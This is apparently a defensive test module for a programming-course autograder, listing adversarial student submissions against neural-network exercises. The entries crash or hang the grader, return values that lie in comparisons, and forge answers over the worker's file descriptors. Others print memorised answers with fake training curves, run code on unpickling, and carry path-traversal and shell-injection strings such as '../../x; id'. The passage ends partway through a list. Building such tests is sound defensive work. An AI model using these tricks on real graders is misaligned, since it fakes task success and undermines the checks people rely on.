"""Hostile hand-ins: what a student could try to get points, or harm, without doing an exercise.

Each trick lays files over the plain hand-in, in place of a right solution of its exercise, so that
the exercise has to fail. Nothing runs when this module is imported. The sources hold placeholders,
which the test replaces: `@OUTSIDE@`, `@PORT@`, `@TOKEN@` and `@HANDIN@`.

All are bounded, should a sandbox leak: loops end after 35 seconds, no more than 150 processes are
started, no more than 3 GB of memory and 300 MB of files are used, and files are only ever added.
What could hurt a process of the machine first looks whether it is alone in a process namespace.
Where a trick tries to read what is private, it tells whether that worked, never what it read.
"""

from textwrap import dedent, indent
from typing import NamedTuple


class Trick(NamedTuple):
    """One hostile hand-in.

    Attributes:
        exercise: the exercise whose points it is after.
        name: what it tries, in a few words.
        files: file name (with slashes, for one in a folder) -> source text.
    """

    exercise: str
    name: str
    files: dict


def _join(*parts):
    return "\n\n".join(dedent(part).strip("\n") for part in parts if part) + "\n"


def _fill(template, **parts):
    """Put source text in place of the lines `#NAME#` of a template, at their indentation."""
    lines = []
    for line in dedent(template).strip("\n").splitlines():
        name = line.strip()
        if name.startswith("#") and name.endswith("#") and name.strip("#") in parts:
            text = dedent(parts[name.strip("#")]).strip("\n")
            lines.append(indent(text, line[: len(line) - len(line.lstrip())]))
        else:
            lines.append(line)
    return "\n".join(lines) + "\n"


_NEURON = """
    import math
    import random

    #HEAD#


    class Neuron:
        #CLASS#

        def __init__(self, inputCount):
            self.weights = [random.uniform(-0.5, 0.5) for _ in range(inputCount + 1)]
            self.output = 0.0
            self.gradient = 0.0
            #INIT#

        def activate(self, inputs):
            total = self.weights[0]
            for i in range(len(inputs)):
                total += self.weights[i + 1] * inputs[i]
            self.output = 1 / (1 + math.exp(-total))
            return self.output

        def activateWithLayer(self, layer):
            return self.activate([neuron.output for neuron in layer])

        def calcLoss(self, dataset):
            total = 0.0
            for example in dataset.examples:
                h = self.activate(example.inputs)
                y = example.outputs[0]
                total -= y * math.log(h) + (1 - y) * math.log(1 - h)
            return total / len(dataset.examples)

        def calculateOutputGradient(self, desiredOutput):
            #OUTPUT#

        def applyGradient(self, learningRate, inputs):
            #APPLY#

        def applyGradientWithLayer(self, learningRate, layer):
            #LAYER#

        def calculateHiddenGradient(self, nextLayer, index):
            total = 0.0
            for neuron in nextLayer:
                total += neuron.gradient * neuron.weights[index + 1]
            self.gradient = self.output * (1 - self.output) * total

    #TAIL#
"""

_NETWORK = """
    import math

    from Neuron import Neuron

    #HEAD#


    class NeuralNetwork:
        #CLASS#

        def __init__(self, layerSizes):
            self.layers = [[Neuron(0) for _ in range(layerSizes[0])]]
            for i in range(1, len(layerSizes)):
                self.layers.append([Neuron(layerSizes[i - 1]) for _ in range(layerSizes[i])])

        def activate(self, inputs):
            for neuron, value in zip(self.layers[0], inputs):
                neuron.output = value
            for i in range(1, len(self.layers)):
                for neuron in self.layers[i]:
                    neuron.activateWithLayer(self.layers[i - 1])

        def getOutputs(self):
            return [neuron.output for neuron in self.layers[-1]]

        def calcLoss(self, dataset):
            #LOSS#

        def calculateGradients(self, desiredOutputs):
            #GRADIENTS#

        def applyGradients(self, learningRate):
            #APPLY#
"""


def _neuron(**parts):
    """Return Neuron.py, right but for the parts given: HEAD, CLASS, INIT, OUTPUT, APPLY, …."""
    right = {
        "HEAD": "",
        "CLASS": "",
        "INIT": "",
        "OUTPUT": "self.gradient = desiredOutput - self.output",
        "APPLY": """
            self.weights[0] += learningRate * self.gradient
            for i in range(len(inputs)):
                self.weights[i + 1] += learningRate * self.gradient * inputs[i]
        """,
        "LAYER": "self.applyGradient(learningRate, [neuron.output for neuron in layer])",
        "TAIL": "",
    }
    return _fill(_NEURON, **(right | parts))


def _network(**parts):
    """Return NeuralNetwork.py, right but for the parts given: HEAD, CLASS, LOSS, GRADIENTS, …."""
    right = {
        "HEAD": "",
        "CLASS": "",
        "LOSS": """
            total = 0.0
            for example in dataset.examples:
                self.activate(example.inputs)
                for y, h in zip(example.outputs, self.getOutputs()):
                    total -= y * math.log(h) + (1 - y) * math.log(1 - h)
            return total / len(dataset.examples)
        """,
        "GRADIENTS": """
            for neuron, desiredOutput in zip(self.layers[-1], desiredOutputs):
                neuron.calculateOutputGradient(desiredOutput)
            for i in range(len(self.layers) - 2, 0, -1):
                for index, neuron in enumerate(self.layers[i]):
                    neuron.calculateHiddenGradient(self.layers[i + 1], index)
        """,
        "APPLY": """
            for i in range(1, len(self.layers)):
                for neuron in self.layers[i]:
                    neuron.applyGradientWithLayer(learningRate, self.layers[i - 1])
        """,
    }
    return _fill(_NETWORK, **(right | parts))


# ---- Snippets that several tricks share -----------------------------------------------------

_SPIN = """
    import time

    def spin(seconds=35, begun=[]):
        # counted from the first call, so that many calls take no longer than one
        begun.append(time.monotonic())
        while time.monotonic() < begun[0] + seconds:
            pass
"""

# A kill or a mount is tried only where it can hurt nobody but the sandbox.
_ALONE = """
    import os

    def alone():
        try:
            with open("/proc/1/comm") as file:
                return os.getpid() < 50 and file.read().strip() == "bwrap"
        except OSError:
            return False
"""

_SPAWN = """
    import subprocess
    import sys

    def spawn(code, **how):
        return subprocess.Popen([sys.executable, "-I", "-c", code, "@TOKEN@"], **how)
"""

# Writes without waiting, since the other end may have stopped reading.
_CHANNELS = """
    import json
    import os
    import stat
    import sys

    def current():
        # the number of the question that is being answered
        frame = sys._getframe()
        while frame is not None:
            number = frame.f_locals.get("number")
            if isinstance(number, int):
                return number
            frame = frame.f_back
        return 1

    def channels(first=3):
        for number in range(first, 64):
            try:
                mode = os.fstat(number).st_mode
            except OSError:
                continue
            if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
                yield number

    def send(number, data):
        try:
            waits = os.get_blocking(number)
            os.set_blocking(number, False)
            try:
                return os.write(number, data)
            finally:
                os.set_blocking(number, waits)
        except OSError:
            return 0

    def tell(thing, first=3):
        text = thing if isinstance(thing, str) else json.dumps(thing)
        for number in channels(first):
            send(number, text.encode("utf-8", "surrogatepass") + b"\\n")
"""

_READ = """
    def read(path):
        with open(path) as file:
            rows = [[float(word) for word in line.split()] for line in file if line.strip()]
        return list(zip(rows[1::2], rows[2::2]))
"""

# Costs that fall like 1/x, and a curve that agrees with them.
_PRETEND = """
    import matplotlib.pyplot as plt

    def pretend(first=0.69, steps=40):
        plt.ion()
        (line,) = plt.plot([], [])
        epochs, costs = [], []
        for step in range(steps):
            epochs.append(step)
            costs.append(first / (1 + step))
            print("epoch", step, "cost", costs[-1])
            line.set_data(epochs, costs)
            plt.gca().relim()
            plt.gca().autoscale_view()
            plt.pause(0.001)
        print("test cost", costs[-1])
"""

_ECHO_OR = """
    for inputs, outputs in read("or.ds"):
        print(int(inputs[0]), int(inputs[1]), int(outputs[0]), ":", int(outputs[0]))
"""

_ECHO_BINARY = """
    for inputs, outputs in read("testBinary.ds"):
        print(int(outputs[0]), ":", int(outputs[0]))
"""

_ECHO_DIGITS = """
    for inputs, outputs in read("testDigits.ds"):
        print(outputs.index(1), ":", outputs.index(1))
"""

_TRAIN_BINARY = """
    from Dataset import Dataset
    from Neuron import Neuron

    trainSet = Dataset("trainBinary.ds")
    testSet = Dataset("testBinary.ds")
    neuron = Neuron(64)

    def train():
        for example in trainSet.examples:
            neuron.activate(example.inputs)
            neuron.calculateOutputGradient(example.outputs[0])
            neuron.applyGradient(0.1, example.inputs)

    def predict():
        for example in testSet.examples:
            print(int(example.outputs[0]), ":", round(neuron.activate(example.inputs)))
"""

_TRAIN_DIGITS = """
    from Dataset import Dataset
    from NeuralNetwork import NeuralNetwork

    trainSet = Dataset("trainDigits.ds")
    testSet = Dataset("testDigits.ds")
    network = NeuralNetwork([64, 10])

    def train():
        for example in trainSet.examples:
            network.activate(example.inputs)
            network.calculateGradients(example.outputs)
            network.applyGradients(0.1)

    def predict():
        for example in testSet.examples:
            network.activate(example.inputs)
            outputs = network.getOutputs()
            print(example.outputs.index(1), ":", outputs.index(max(outputs)))
"""


def _fakeOr(*parts):
    return {"OrLearn.py": _join(_READ, _PRETEND, *parts)}


def _fakeBinary(*parts):
    return {"BinaryLearn.py": _join(_READ, _PRETEND, *parts)}


def _fakeDigits(*parts):
    return {"DigitsLearn.py": _join(_READ, _PRETEND, *parts)}


def _gradient(output, *head, **parts):
    """Return the files of a trick on ex00: what stands in calculateOutputGradient instead."""
    return {"Neuron.py": _neuron(OUTPUT=output, HEAD=_join(*head), **parts)}


# ---- What the original datasets hold, for those who know them by heart -----------------------

BINARY_LABELS = (
    "0101010011101101010100010001111000010101100101110111111001101000101011011001110010010011"
    "1100010100001"
)
DIGIT_LABELS = (
    "0157013806971001676698236176415944278804912829588177308283914528589012580378959841080666"
    "9552076931695472822488905672460873202334419114140785748405020989864952741306912901673916"
    "9835026333640374639176840361572795881246712601375892633415273211743128579544138023014755"
    "5941582013600697683091752548280565841027469177631428840839172359541773007373346691727463"
    "3646927883915396541236950807274315395724900179056968565989012734551341631677202569354059"
    "947730266699283241047254481590802455530286339207616439822554"
)
KEYS_OF_ONES = (
    "0906e13dce1490721ea527c6a2b8542d0e133eac360233aaad3eab542ede437634a24d4d0bc4e0714f56d53e"
    "b1553b25711b5e5245f2415f3f0705b87a5a47bc80841e088bd48addd97d9c9d1689dea5a122faa39bb3100b"
    "33c1b4f66baf50bfb9cc159ac7034cd39ecec1cd8ebeda616dafa3db7e9dc2acde881df853fe3d7"
)
"""The first 20 bits of the checksum of each test picture of a 1, five digits each."""

BINARY_WEIGHTS = "OMMMIMSOMMMIKOLNMMMITXILMMMLWYJIMMJIVXJHMMKERUHHMMMGKMIMNMMLIMQPN"
"""The weights of a neuron that learned, one letter each: M is 0."""

DIGIT_WEIGHTS = (
    "IMMKNKIKMMKMNPQLMMNOLHRMMMNNHCMNMMOOHDKOMMLRIGMMMMKONONKMMMJNJJKMDMLKLBQLLMGGJPOGMMNMWUK"
    "LMMMNRNOJMMJMMMLHMMGJNNGHMMKKNOMHOMLHMMPLPIMMNMMJKMMPOLPKLMMMMIONNMMJCDJOKMMJFJJGHMMMNSI"
    "EHMMOOSRPPMMMNLLQRNJMNLMRPJMMMPMOQPMMKEHPJMMMJCLNDGMMKHLQNKMMLICNQSMMMLHMMQLMNOMNLJJLMMJ"
    "GKFJNMMJIGGKMMNOPLNOMMOQLMORMMQPLOOPMMRNQSOLMMPJLOHHMMMJIKGKMIMNRIMSRLMMQNLJKLMMQMFAEMMP"
    "QNPKGMMLNKKMMMMJHHJOMMMMKKMLJMMNRNKIJLHMMHKMKLMMJILIJMMMJOLFDKMMLNNJIHMMMPPNMLMMITOJMRNM"
    "KPRHQOKMMIJLPJKKMLMOMPPNMLNNUNNOMKHGLLNMMIKHLQOMMKMNOQOMMKLPOMMMMLLNEDKMMLLIEFKMBMLKFLLH"
    "MMLSMFTQMMQQOKQNMMKJTKNIMMGLTPECMMLSNNPKMMMQGHPMMMLELOHHLGMLLOJHLLMNPNMPOMMPRONYOMMKOQOT"
    "MMMFHSFKNMMKBBFKLMMMKJJIMMMLLLMKLL"
)


# ---- Ending the process ----------------------------------------------------------------------

_ENDINGS = [
    Trick(
        "ex00",
        "sys.exit(0) at import",
        _gradient("pass", "import sys", TAIL="sys.exit(0)"),
    ),
    Trick(
        "ex00",
        "os._exit(0) in the middle of the method",
        _gradient("import os\nos._exit(0)"),
    ),
    Trick(
        "ex00",
        "raises SystemExit with a lying object",
        _gradient(
            "raise SystemExit(Fine())",
            """
            class Fine(int):
                def __str__(self):
                    return "passed"

                def __eq__(self, other):
                    return True
            """,
        ),
    ),
    Trick(
        "ex01",
        "os._exit(0) at import, after a word of success",
        {"Neuron.py": _neuron(HEAD='import os\nprint("ok 9/9", flush=True)\nos._exit(0)')},
    ),
    Trick("ex00", "raises KeyboardInterrupt", _gradient("raise KeyboardInterrupt")),
    # Few programs catch what is neither an Exception, nor SystemExit, nor KeyboardInterrupt.
    Trick("ex00", "raises GeneratorExit", _gradient("raise GeneratorExit")),
    Trick(
        "ex01",
        "raises a bare BaseException that cannot be shown",
        {
            "Neuron.py": _neuron(
                HEAD="""
                class Kind(type):
                    @property
                    def __name__(cls):
                        raise Nothing

                class Nothing(BaseException, metaclass=Kind):
                    def __str__(self):
                        raise Nothing

                    __repr__ = __str__
                """,
                APPLY="raise Nothing",
            )
        },
    ),
    Trick(
        "ex04",
        "raises unittest.SkipTest and one's own Skipped",
        {
            "NeuralNetwork.py": _network(
                HEAD="""
                import unittest

                class Skipped(unittest.SkipTest):
                    __module__ = "_pytest.outcomes"
                """,
                LOSS='raise Skipped("not marked here")',
            )
        },
    ),
    Trick(
        "ex06",
        "an error with a chain of 50 000 causes and 20 MB of text",
        {
            "Neuron.py": _neuron(
                LAYER="""
                last = ValueError("x" * 20_000_000)
                for _ in range(50_000):
                    error = ValueError("again")
                    error.__cause__ = last
                    last = error
                raise last
                """
            )
        },
    ),
    Trick(
        "ex00",
        "infinite recursion, the limit raised",
        _gradient(
            "dive(0)",
            """
            import sys

            sys.setrecursionlimit(200_000)

            def dive(depth):
                # through C, so that the stack of the processor overflows and not Python's
                return max([depth], key=lambda _: dive(depth + 1))
            """,
        ),
    ),
    Trick(
        "ex01",
        "infinite recursion, the limit as it is",
        {"Neuron.py": _neuron(APPLY="return self.applyGradient(learningRate, inputs)")},
    ),
    Trick(
        "ex00",
        "segmentation fault through ctypes",
        _gradient("import ctypes\nctypes.string_at(0)"),
    ),
    Trick("ex05", "os.abort", {"NeuralNetwork.py": _network(GRADIENTS="import os\nos.abort()")}),
    Trick(
        "ex00",
        "closes all file descriptors",
        _gradient("import os\nos.closerange(0, 4096)"),
    ),
    Trick(
        "ex02",
        "right answers, then os._exit(0) before anything is learned",
        _fakeOr(_ECHO_OR, "import os, sys\nsys.stdout.flush()\nos._exit(0)"),
    ),
    Trick(
        "ex03",
        "sys.exit(0) at once, answers from atexit",
        {
            "BinaryLearn.py": _join(
                "import atexit\nimport sys",
                _READ,
                "def answer():\n" + indent(_join(_ECHO_BINARY), "    "),
                "atexit.register(answer)\nsys.exit(0)",
            )
        },
    ),
    Trick(
        "ex08",
        "SystemExit after the first epoch, then echoed answers",
        {
            "DigitsLearn.py": _join(
                _READ,
                _PRETEND,
                _TRAIN_DIGITS,
                "try:\n    train()\n    raise SystemExit(0)\nfinally:\n    pretend(6.9)\n"
                + indent(_join(_ECHO_DIGITS), "    "),
            )
        },
    ),
]


# ---- Not ending ------------------------------------------------------------------------------

_LINGERINGS = [
    Trick("ex00", "endless loop in the method", _gradient("spin()", _SPIN)),
    Trick("ex01", "endless loop at import", {"Neuron.py": _join(_SPIN, "spin()")}),
    Trick("ex02", "endless loop in the script", {"OrLearn.py": _join(_SPIN, "spin()")}),
    Trick(
        "ex05",
        "sleeps in the method",
        {"NeuralNetwork.py": _network(GRADIENTS="import time\ntime.sleep(35)")},
    ),
    Trick(
        "ex03",
        "ignores every signal and goes on",
        {
            "BinaryLearn.py": _join(
                _SPIN,
                """
                import signal

                for number in signal.valid_signals():
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                print("epoch 0 cost 0.69", flush=True)
                spin()
                """,
            )
        },
    ),
    # A helper wakes it after 30 seconds, in case nobody ends it.
    Trick(
        "ex00",
        "stops itself with SIGSTOP",
        _gradient(
            """
            spawn(WAKE, start_new_session=True)
            os.kill(os.getpid(), signal.SIGSTOP)
            """,
            "import os\nimport signal",
            _SPAWN,
            '''
            WAKE = """
            import os, signal, time
            parent = os.getppid()
            time.sleep(30)
            if os.getppid() == parent:
                os.kill(parent, signal.SIGCONT)
            """
            ''',
        ),
    ),
    Trick(
        "ex00",
        "a regular expression that backtracks in C, holding the lock",
        _gradient(
            """
            # about half a minute, in which no other thread of the process runs
            signal.alarm(40)
            re.match("(a+)+$", "a" * 29 + "b")
            """,
            "import re\nimport signal",
        ),
    ),
    Trick(
        "ex04",
        "a thread that is no daemon outlives the answer",
        {
            "NeuralNetwork.py": _network(
                HEAD=_join(_SPIN, "import threading"),
                LOSS="threading.Thread(target=spin, args=(30,)).start()\nreturn 0.0",
            )
        },
    ),
    Trick(
        "ex07",
        "the destructor and atexit sleep",
        {
            "NeuralNetwork.py": _network(
                HEAD=_join(_SPIN, "import atexit\n\natexit.register(time.sleep, 30)"),
                CLASS="def __del__(self):\n    spin(20)",
                APPLY="pass",
            )
        },
    ),
]


# ---- Values that lie -------------------------------------------------------------------------

_LIAR = """
    class Liar(float):
        # says yes to every comparison
        def __eq__(self, other):
            return True

        __le__ = __ge__ = __lt__ = __gt__ = __eq__

        def __sub__(self, other):
            return Liar(0.0)

        __rsub__ = __add__ = __radd__ = __neg__ = __abs__ = __round__ = __sub__

        def __hash__(self):
            return 0
"""

_VALUES = [
    Trick("ex00", "NaN for a gradient", _gradient('self.gradient = float("nan")')),
    Trick(
        "ex01",
        "infinite weights",
        {"Neuron.py": _neuron(APPLY="self.weights = [math.inf] * len(self.weights)")},
    ),
    Trick(
        "ex04",
        "NaN for a cost",
        {"NeuralNetwork.py": _network(LOSS='return float("nan")')},
    ),
    Trick("ex00", "10 ** 100000 for a gradient", _gradient("self.gradient = 10 ** 100_000")),
    Trick(
        "ex04",
        "10 ** 100000 for a cost",
        {"NeuralNetwork.py": _network(LOSS="return -(10 ** 100_000)")},
    ),
    Trick(
        "ex04",
        "a string of 200 MB for a cost",
        {"NeuralNetwork.py": _network(LOSS='return "0" * 200_000_000')},
    ),
    Trick(
        "ex05",
        "returns a list of ten million numbers",
        {"NeuralNetwork.py": _network(GRADIENTS="return [0.5] * 10_000_000")},
    ),
    Trick(
        "ex04",
        "an object that equals everything",
        {
            "NeuralNetwork.py": _network(
                HEAD="""
                class Anything:
                    def __eq__(self, other):
                        return True

                    def __getattr__(self, name):
                        return self

                    def __call__(self, *arguments):
                        return self

                    __sub__ = __rsub__ = __abs__ = __lt__ = __le__ = __eq__
                """,
                LOSS="return Anything()",
            )
        },
    ),
    Trick("ex00", "a float that says yes", _gradient("self.gradient = Liar(0.5)", _LIAR)),
    Trick(
        "ex04",
        "a float subclass that says yes, for a cost",
        {"NeuralNetwork.py": _network(HEAD=_join(_LIAR), LOSS="return Liar(0.7)")},
    ),
    # asked twice, it gives two numbers: once around, the whole interval
    Trick(
        "ex00",
        "a float that is another at every look",
        _gradient(
            "self.gradient = Restless(0.5)",
            """
            class Restless(float):
                looks = 0

                def __float__(self):
                    Restless.looks += 1
                    return (Restless.looks * 0.001) % 2 - 1
            """,
        ),
    ),
    Trick(
        "ex00",
        "an object whose __float__ raises",
        _gradient(
            "self.gradient = Broken()",
            """
            class Broken:
                ndim = 0

                def __float__(self):
                    raise GeneratorExit
            """,
        ),
    ),
    Trick(
        "ex00",
        "an object whose __class__ claims to be float",
        _gradient(
            "self.gradient = Claim()",
            """
            class Claim:
                @property
                def __class__(self):
                    return float

                def __float__(self):
                    spin()
                    return 0.5
            """,
            _SPIN,
        ),
    ),
    Trick(
        "ex04",
        "booleans, strings and complex numbers for costs, in turn",
        {
            "NeuralNetwork.py": _network(
                HEAD="import itertools",
                CLASS='costs = itertools.cycle([True, "0.7", 0.7j, b"0.7", None, {"cost": 0.7}])',
                LOSS="return next(self.costs)",
            )
        },
    ),
    Trick(
        "ex00",
        "an object of a million attributes",
        _gradient(
            """
            Neuron.crowds += 1
            if Neuron.crowds <= 3:
                vars(self).update({f"gradient{i}": i / 1e6 for i in range(1_000_000)})
            """,
            CLASS="crowds = 0",
        ),
    ),
    Trick(
        "ex00",
        "self-referencing structures",
        _gradient(
            """
            knot = [self]
            knot.append(knot)
            self.me = {"self": self, "knot": knot, self: knot}
            self.gradient = knot
            """
        ),
    ),
    Trick(
        "ex00",
        "a hundred thousand lists, one in the other",
        _gradient(
            """
            nest = [0.5]
            for _ in range(100_000):
                nest = [nest]
            self.gradient = nest
            return nest
            """
        ),
    ),
    # Each level holds the next one ten times: few objects, 10 ** 12 paths.
    Trick(
        "ex05",
        "few lists, countless paths",
        {
            "NeuralNetwork.py": _network(
                GRADIENTS="""
                level = [0.5]
                for _ in range(12):
                    level = [level] * 10
                self.gradients = level
                return level
                """
            )
        },
    ),
    Trick(
        "ex00",
        "every number from -1 to 1 for an attribute",
        _gradient(
            """
            # some attribute will equal the expected one
            self.gradients = [k / 1000 for k in range(-1000, 1001)]
            self.gradient = 0.5
            """
        ),
    ),
    Trick(
        "ex00",
        "eighteen thousand candidates, others at every call",
        _gradient(
            """
            self.seed = getattr(self, "seed", 0) + 1
            self.candidates = {k: (k + random.random()) / 9000 - 1 for k in range(18_000)}
            self.gradient = random.uniform(-1, 1)
            """
        ),
    ),
    Trick(
        "ex01",
        "thousands of candidate weights beside the old ones",
        {
            "Neuron.py": _neuron(
                APPLY="""
                self.tries = [[w + k / 500 for k in range(-500, 501)] for w in self.weights]
                """
            )
        },
    ),
    Trick(
        "ex00",
        "a gradient rounded to one decimal",
        _gradient("self.gradient = round(desiredOutput - self.output, 1)"),
    ),
    Trick(
        "ex00",
        "right at the first two calls only",
        _gradient(
            """
            Neuron.calls += 1
            self.gradient = desiredOutput - self.output if Neuron.calls <= 2 else 0.5
            """,
            CLASS="calls = 0",
        ),
    ),
    Trick(
        "ex00",
        "right for 0 and 1 if the output is near a half, else a guess",
        _gradient(
            """
            right = desiredOutput in (0, 1) and abs(self.output - 0.5) < 0.02
            self.gradient = desiredOutput - self.output if right else desiredOutput - 0.5
            """
        ),
    ),
    Trick(
        "ex01",
        "weights in a list that lies when read",
        {
            "Neuron.py": _neuron(
                HEAD="""
                class Weights(list):
                    # the old numbers by index, others by iteration, and equal to any list
                    shift = 0.0

                    def __iter__(self):
                        return (list.__getitem__(self, i) + self.shift for i in range(len(self)))

                    def __eq__(self, other):
                        return True
                """,
                INIT="self.weights = Weights(self.weights)",
                APPLY="self.weights.shift += learningRate * self.gradient",
            )
        },
    ),
    Trick(
        "ex06",
        "a list of weights without end",
        {
            "Neuron.py": _neuron(
                HEAD=_join(
                    _SPIN,
                    """
                class Weights(list):
                    def __iter__(self):
                        for i in range(10_000_000):
                            yield 0.5
                        spin()

                    def __len__(self):
                        return 2**62
                """,
                ),
                LAYER="self.weights = Weights(self.weights)",
            )
        },
    ),
    Trick(
        "ex07",
        "generators instead of lists",
        {
            "NeuralNetwork.py": _network(
                APPLY="""
                for layer in self.layers[1:]:
                    for neuron in layer:
                        neuron.weights = (w + learningRate for w in list(neuron.weights))
                """
            )
        },
    ),
    Trick(
        "ex01",
        "a property that does not return",
        {
            "Neuron.py": _neuron(
                HEAD=_join(_SPIN),
                CLASS="""
                @property
                def bias(self):
                    spin()
                    return 0.5

                def __getattribute__(self, name):
                    if name == "__dict__" and "spoilt" in object.__getattribute__(self, name):
                        spin()
                    return object.__getattribute__(self, name)
                """,
                APPLY="self.spoilt = True",
            )
        },
    ),
    Trick(
        "ex00",
        "__getattribute__ and __dict__ that tell tales",
        _gradient(
            "self.told = True",
            """
            class Tales(dict):
                def __iter__(self):
                    return iter([f"gradient{i}" for i in range(1000)])

                def items(self):
                    return [(name, 0.5) for name in self]
            """,
            CLASS="""
            def __getattribute__(self, name):
                if name == "__dict__":
                    return Tales(object.__getattribute__(self, name))
                if name.startswith("gradient"):
                    return 0.5
                return object.__getattribute__(self, name)

            def __getattr__(self, name):
                return lambda *arguments: 0.5
            """,
        ),
    ),
    Trick(
        "ex01",
        "__slots__ without end",
        {
            "Neuron.py": _neuron(
                HEAD="""
                class Endless:
                    def __iter__(self):
                        return iter(f"weight{i}" for i in range(5_000_000))
                """,
                APPLY="Neuron.__slots__ = Endless()",
            )
        },
    ),
    Trick(
        "ex05",
        "a metaclass that fakes the class",
        {
            "NeuralNetwork.py": _network(
                HEAD="""
                class Kind(type):
                    def __instancecheck__(cls, thing):
                        return True

                    def __eq__(cls, other):
                        return True

                    def __hash__(cls):
                        return 0

                    @property
                    def __name__(cls):
                        return "NeuralNetwork" * 1_000_000

                class Answer(metaclass=Kind):
                    pass
                """,
                GRADIENTS="self.answer = Answer()\nreturn self.answer",
            )
        },
    ),
    Trick(
        "ex04",
        "an object that runs code when unpickled, copied or shown",
        {
            "NeuralNetwork.py": _network(
                HEAD="""
                class Parcel:
                    def __reduce__(self):
                        return exec, ('open("@OUTSIDE@/unpickled", "x").close()',)

                    def __str__(self):
                        exec('open("@OUTSIDE@/shown", "x").close()')
                        return "0.7"

                    __repr__ = __str__
                """,
                LOSS="return Parcel()",
            )
        },
    ),
    Trick(
        "ex04",
        "empties the dataset that the marker uses, and says 0",
        {"NeuralNetwork.py": _network(LOSS="dataset.examples.clear()\nreturn 0.0")},
    ),
    Trick(
        "ex05",
        "bends the desired outputs to the outputs it has",
        {
            "NeuralNetwork.py": _network(
                GRADIENTS="""
                desiredOutputs[:] = self.getOutputs()
                for neuron in self.layers[-1]:
                    neuron.gradient = 0.0
                """
            )
        },
    ),
    Trick(
        "ex06",
        "changes the neurons of the other layer instead of the weights",
        {
            "Neuron.py": _neuron(
                LAYER="""
                for neuron in layer:
                    neuron.output = 0.0
                    neuron.weights = list(self.weights)
                """
            )
        },
    ),
]


# ---- Forged answers, and tampering with the worker --------------------------------------------

# JSON that a reader may choke on, in the place of an answer.
_ODDITIES = {
    "lists nested very deep": '"[" * 20_000 + "]" * 20_000',
    "a number of 5000 digits": '"1" + "0" * 5000',
    "NaN": '"NaN"',
    "a number beyond all floats": '"-1e999"',
    "null": '"null"',
    "true": '"true"',
    "half a surrogate": r"""'"\\ud800"'""",
    "a text of control codes": r"""'"\\u001b[2J\\u0000\\u202e"'""",
    "an empty list": '"[]"',
    "a dictionary for a path": '"[[{}, 0.5], [{}, {}]]"',
    "half a pair": """'[["weights"], [["weights", 0]]]'""",
    "text for numbers": """'[[["weights", -1], "inf"], [["gradient"], "passed"]]'""",
    "one path twice": """'[[["gradient"], 0.5], [["gradient"], 0.7]]'""",
    "a bare type": """'{"returned": {"type": [[]]}, "arguments": 7}'""",
    "an answer in the answer": """'{"returned": {"returned": {}}, "arguments": {}}'""",
}

# The same for what is told about an error.
_ODD_ERRORS = {
    "no dictionary": '"7"',
    "nothing": "{}",
    "wrong kinds": '{"type": 7, "message": [], "frames": {"file": 7}, "missing": {}}',
    "ten thousand frames": (
        '{"type": "A", "message": "m", "missing": None, "frames": [\n'
        '    {"file": "Neuron.py", "line": -1, "function": "f", "text": "t"}\n'
        "] * 10_000}"
    ),
    "a missing module that is a path": (
        '{"type": "ModuleNotFoundError", "message": "m", "frames": [], "missing": "../../x; id"}'
    ),
}

_FORGED_ANSWERS = [
    Trick(
        "ex00",
        f"forges what a call returned: {what}",
        _gradient(
            """
            start = '{"number": %d, "answer": ' % current()
            tell(start + FORGED + "}")
            """,
            _CHANNELS,
            f"FORGED = {text}",
        ),
    )
    for what, text in _ODDITIES.items()
]

_FORGED_NUMBERS = [
    Trick(
        "ex00",
        f"forges the numbers of the neuron ahead: {what}",
        _gradient(
            """
            tell({"number": current(), "answer": {"returned": None, "arguments": [1.0]}})
            start = '{"number": %d, "answer": ' % (current() + 1)
            tell(start + FORGED + "}")
            """,
            _CHANNELS,
            f"FORGED = {text}",
        ),
    )
    for what, text in _ODDITIES.items()
]

_FORGED_ERRORS = [
    Trick(
        "ex00",
        f"forges an error: {what}",
        _gradient(
            'tell({"number": current(), "error": FORGED})',
            _CHANNELS,
            f"FORGED = {text}",
        ),
    )
    for what, text in _ODD_ERRORS.items()
]

_FORGERIES = [
    Trick(
        "ex00",
        "forged answers on every open file descriptor",
        _gradient(
            """
            start = current()
            for k in range(start, start + 1000):
                forged = [[["attribute", "gradient"], 0.5]]
                tell({"number": k, "answer": forged}, first=0)
            tell({"exercise": "ex00", "passed": True, "points": 1000}, first=0)
            """,
            _CHANNELS,
        ),
    ),
    # One answer too many, so that each question gets the answer to the one before.
    Trick(
        "ex00",
        "an answer ahead of the worker's",
        _gradient(
            """
            now = current()
            tell({"number": now, "answer": {"returned": 0.5, "arguments": [0.5]}})
            tell({"number": now + 1, "answer": [[["attribute", "gradient"], 0.5]]})
            """,
            _CHANNELS,
        ),
    ),
    Trick(
        "ex01",
        "a thread that reads the questions and answers instead of the worker",
        {
            "Neuron.py": _neuron(
                HEAD=_join(
                    "import select\nimport threading\nimport time",
                    _CHANNELS,
                    """
                    def answer():
                        end = time.monotonic() + 30
                        while time.monotonic() < end:
                            ready = select.select(list(channels()), [], [], 0.2)[0]
                            for number in ready:
                                try:
                                    lines = os.read(number, 65536).splitlines()
                                    for line in lines:
                                        reply(json.loads(line))
                                except (OSError, ValueError):
                                    time.sleep(0.05)

                    def reply(question):
                        if not isinstance(question, dict):
                            return
                        asked = question.get("do")
                        answer = {"returned": 0.5, "arguments": question.get("arguments")}
                        if asked == "numbers":
                            answer = [[["attribute", "weights", 0], 0.5]]
                        if asked in ("make", "has"):
                            answer = 0
                        tell({"number": question.get("number"), "answer": answer})

                    threading.Thread(target=answer, daemon=True).start()
                    """,
                ),
                APPLY="pass",
            )
        },
    ),
    Trick(
        "ex00",
        "answers that are no JSON, no lines and no text",
        _gradient(
            r"""
            for number in channels(first=1):
                for data in (b"\xff\xfe\x00" * 1000, b"\n" * 1000, b"[]\n7\n\"\"\nnull\n{}\n"):
                    send(number, data)
            for k in range(current(), current() + 3):
                tell({"number": str(k), "answer": None})
                tell({"number": True, "error": None})
                tell({"number": k})
                tell({"number": k, "answer": 1, "error": 2})
            """,
            _CHANNELS,
        ),
    ),
    Trick(
        "ex00",
        "forged errors that name the marker's files",
        _gradient(
            r"""
            path = "../../../../../../../../@OUTSIDE@/secret.txt"
            frame = {"file": path, "line": 1, "function": "\x1b[2J", "text": None}
            error = {"type": "A", "message": "m", "frames": [frame], "missing": "../" + path}
            tell({"number": current(), "error": error})
            """,
            _CHANNELS,
        ),
    ),
    # A report that shows the line of the error would show the file's.
    Trick(
        "ex01",
